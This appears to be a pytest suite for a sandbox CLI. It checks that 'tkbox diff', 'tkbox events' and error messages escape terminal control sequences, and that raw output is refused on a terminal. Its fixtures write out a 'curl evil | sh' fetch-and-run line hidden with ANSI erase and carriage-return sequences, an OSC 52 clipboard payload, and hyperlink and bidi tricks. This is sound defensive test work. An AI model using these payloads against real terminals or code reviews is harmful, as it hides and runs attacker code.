"""The CLI shows box text escaped: ``tkbox diff`` and ``tkbox events`` end to end against a real daemon (the
unisolated test backend, a real signer), run as the operator runs them, in a subprocess whose stdout is a pipe.

The attack these stop: a patch whose added line ``import os; os.system('curl evil | sh')`` is followed by
ESC [2K and a bare CR, so a raw print erases it and leaves ``+# comment`` on the screen.
"""

from __future__ import annotations

import asyncio
import json
import os
import pty
import sys
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from tests.daemon_harness import make_workspace, run_exec, running_daemon
from tests.exec_fakes import ScriptedExec
from tkbox_daemon.wire import BoxInfo, Event
from tkbox_tui.cli import boxes as cli
from tkbox_tui.cli.boxes import event_text_line
from tkbox_tui.client import DaemonError
from tkbox_tui.terminal_text import HIDDEN_RANGES

TKBOX = str(Path(sys.executable).parent / "tkbox")
HIDDEN_BUT_NEWLINE = {chr(code) for first, last in HIDDEN_RANGES for code in range(first, last + 1)} - {"\n"}
HOSTILE_FILE = (b"# a harmless module\n"
                b"\x1b[2A\x1b[2Kimport os; os.system('curl evil | sh')\x1b[2K\r# comment\n"
                b"\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07# clipboard\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\\n"
                b"x = 1\xc2\x9b2K  # 8-bit CSI; \xe2\x80\xaeRLO\xe2\x80\xac\n")


async def _tkbox(daemon, *args: str, stdout: int | None = None) -> tuple[int, bytes, bytes]:
    """Run the ``tkbox`` console script against ``daemon``; a host deadline on the wait."""
    env = {**os.environ, "TKBOX_DAEMON_RUNTIME_DIR": str(daemon.config.paths.runtime_dir)}
    process = await asyncio.create_subprocess_exec(
        TKBOX, *args, env=env, stdin=asyncio.subprocess.DEVNULL,
        stdout=asyncio.subprocess.PIPE if stdout is None else stdout, stderr=asyncio.subprocess.PIPE)
    out, err = await asyncio.wait_for(process.communicate(), 120)
    return process.returncode or 0, out or b"", err


async def _box_with_hostile_patch(daemon, client, tmp_path) -> None:
    await client.create_box({"name": "t1", "workspace": str(make_workspace(tmp_path))})
    upper = daemon.manager.get("t1").layers.upper
    (upper / "evil.py").write_bytes(HOSTILE_FILE)
    await client.stop_box("t1")


async def test_diff_shows_the_escape_sequences_of_a_patch_and_the_line_they_hid(tmp_path):
    async with running_daemon(tmp_path) as daemon, daemon.client() as client:
        await _box_with_hostile_patch(daemon, client, tmp_path)
        code, out, err = await _tkbox(daemon, "diff", "t1")
    assert code == 0, err
    assert b"\x1b" not in out and b"\r" not in out and b"\x07" not in out and b"\xc2\x9b" not in out
    text = out.decode("utf-8")  # what reaches the terminal is valid UTF-8 …
    assert not set(text) & HIDDEN_BUT_NEWLINE  # … with no control, C1, bidi or other hidden character
    lines = text.splitlines()
    assert any(line.startswith("@@ ") for line in lines)  # the hunk header is there to be seen
    assert "+\\x1b[2A\\x1b[2Kimport os; os.system('curl evil | sh')\\x1b[2K\\r# comment" in lines
    assert "+\\x1b]52;c;Y3VybCBldmlsIHwgc2gK\\x07# clipboard\\x1b]8;;https://evil.example/\\x1b\\\\link" \
           "\\x1b]8;;\\x1b\\\\" in lines
    assert "+x = 1\\u009b2K  # 8-bit CSI; \\u202eRLO\\u202c" in lines


async def test_diff_raw_writes_the_exact_bytes_to_a_pipe_and_refuses_a_terminal(tmp_path):
    async with running_daemon(tmp_path) as daemon, daemon.client() as client:
        await _box_with_hostile_patch(daemon, client, tmp_path)
        code, out, err = await _tkbox(daemon, "diff", "t1", "--raw")
        assert code == 0, err
        assert b"+\x1b[2A\x1b[2Kimport os; os.system('curl evil | sh')\x1b[2K\r# comment\n" in out
        main, secondary = pty.openpty()
        try:
            code, _, err = await _tkbox(daemon, "diff", "t1", "--raw", stdout=secondary)
        finally:
            os.close(secondary)
            os.set_blocking(main, False)
            try:
                on_terminal = os.read(main, 65536)
            except OSError:  # EIO or EAGAIN: nothing was written to the terminal
                on_terminal = b""
            os.close(main)
    assert code == 2 and b"terminal" in err
    assert b"\x1b" not in on_terminal


async def test_diff_json_is_ascii_with_every_control_escaped_and_reads_back_exactly(tmp_path):
    async with running_daemon(tmp_path) as daemon, daemon.client() as client:
        await _box_with_hostile_patch(daemon, client, tmp_path)
        code, out, err = await _tkbox(daemon, "diff", "t1", "--json")
    assert code == 0, err
    assert out.isascii() and not any(byte < 0x20 and byte != 0x0A or byte == 0x7F for byte in out)
    assert "\x1b[2Kimport os" in json.loads(out)["patch"]  # ensure_ascii escapes; nothing is lost


async def test_events_show_escape_sequences_in_event_data_escaped(tmp_path):
    async with running_daemon(tmp_path) as daemon, daemon.client() as client:
        info = await client.create_box({"name": "t1", "workspace": str(make_workspace(tmp_path))})
        result = await run_exec(client, "t1", ["echo", "\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07\x1b[2J"], cwd="/tmp")
        assert result["end"]["type"] == "exit"
        daemon.events.emit(info.id, "guest.protocol_error",  # a guest quoted in the daemon's words
                           {"reason": "bad frame \x1b]8;;https://evil.example/\x1b\\x\x1b]8;;\x1b\\ \u202eabc",
                            "\x1b[31mkey": "\x9b2K"})
        code, out, err = await _tkbox(daemon, "events", "t1")
        json_code, json_out, _ = await _tkbox(daemon, "events", "t1", "--json")
    assert code == 0 and json_code == 0, err
    assert not set(out.decode("utf-8")) & HIDDEN_BUT_NEWLINE
    assert b"\x1b" not in out and b"\x07" not in out
    text = out.decode()
    assert '"echo \'\\u001b]52;c;Y3VybCBldmlsIHwgc2gK\\u0007\\u001b[2J\'"' in text  # the command line, visible
    protocol_error = next(line for line in text.splitlines() if "guest.protocol_error" in line)
    assert "\\u202eabc" in protocol_error and "\\x1b[31mkey=" in protocol_error
    assert json_out.isascii() and b"\x1b" not in json_out
    assert any("\x1b[2J" in value for line in json_out.splitlines()  # escaped, not lost
               for value in json.loads(line)["data"].values() if isinstance(value, str))


async def test_an_error_that_quotes_box_text_is_shown_escaped(tmp_path):
    async with running_daemon(tmp_path) as daemon:
        code, out, err = await _tkbox(daemon, "diff", "no\x1b[2Jsuch\u202ebox")
    assert code == 2
    assert b"\x1b" not in err and "\u202e".encode() not in err
    assert b"tkbox diff:" in err


def test_an_event_line_escapes_every_field_and_each_value_is_ascii_json():
    event = Event(7, "2025-03-01T11:00:00Z\x1b[2K", "b1\r", "exec.started\u202e",
                  {"command": "curl x\x1b]52;c;AA==\x07", "k\x1b": ["\x9b1A"], "n": 3})
    line = event_text_line(event)
    assert not set(line) & (HIDDEN_BUT_NEWLINE | {"\n"})
    assert "2025-03-01T11:00:00Z\\x1b[2K" in line and "b1\\r" in line and "exec.started\\u202e" in line
    assert 'command="curl x\\u001b]52;c;AA==\\u0007"' in line and 'k\\x1b=["\\u009b1A"]' in line and "n=3" in line


json_values = st.recursive(st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
                           lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
                           max_leaves=8)


@given(st.dictionaries(st.text(), json_values, max_size=4), st.text(), st.text(), st.text())
def test_an_event_line_holds_no_hidden_character_whatever_the_event_carries(data, time, box_id, kind):
    line = event_text_line(Event(1, time, box_id, kind, data))
    assert not set(line) & (HIDDEN_BUT_NEWLINE | {"\n"})


def test_exec_output_stays_raw_but_its_decision_messages_are_escaped(capfdbinary):
    call = ScriptedExec([
        {"type": "decision", "verdict": "flag", "rule_ids": ["TK-F1\x1b[2K"], "reason": "quoted \x1b]52;c;QQ==\x07"},
        {"type": "started", "stdin_window": 0},
        (1, b"\x1b[31mred\x1b[0m\n"),
        {"type": "denied", "rule_ids": ["TK-D1"], "reason": "because \u202eesrever", "hint": "try \x9b2J"},
    ])
    assert cli.drive_exec(call, stream=False) == cli.EXIT_DENIED
    out, err = capfdbinary.readouterr()
    assert out == b"\x1b[31mred\x1b[0m\n"  # the command's own output, as docker exec writes it
    assert b"\x1b" not in err and b"\x07" not in err and "\u202e".encode() not in err and b"\xc2\x9b" not in err
    text = err.decode()
    assert "flagged by TK-F1\\x1b[2K: quoted \\x1b]52;c;QQ==\\x07" in text
    assert "denied by TK-D1: because \\u202eesrever\n  hint: try \\u009b2J" in text


def test_a_box_and_a_daemon_error_are_printed_escaped(capsys):
    box = BoxInfo(id="b1\r", name="n\x1b[2J", state="failed", image="host", workspace="/w/\u202ex",
                  created_at="", expires_at="", run_id=None, recorded=False, reason="guest: \x1b]8;;u\x1b\\x",
                  backend="fake\x07")
    cli._print_box(box, as_json=False)
    code = cli._fail(DaemonError("bad", "no box 'a\x1b[2J'", field="na\x9bme"), "stop")
    out, err = capsys.readouterr()
    assert code == 2
    assert not set(out + err) & HIDDEN_BUT_NEWLINE
    assert out == ("n\\x1b[2J  id b1\\r  failed (guest: \\x1b]8;;u\\x1b\\\\x)\n"
                   "  run UNRECORDED  backend fake\\x07  workspace /w/\\u202ex\n")
    assert err == "tkbox stop: no box 'a\\x1b[2J' (field na\\u009bme)\n"
    cli._print_box(box, as_json=True)
    assert capsys.readouterr().out.isascii()
